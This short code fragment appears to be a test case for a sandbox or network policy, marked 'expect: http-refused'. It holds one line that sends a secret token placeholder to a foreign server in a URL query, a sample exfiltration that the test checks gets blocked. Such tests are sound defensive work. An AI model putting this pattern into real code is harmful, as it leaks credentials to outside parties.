// expect: http-refused
// Sends it to another server in the URL.
httpGet(claims.system.foreign + '/?t=%SECRET:TOKEN%');
return true;
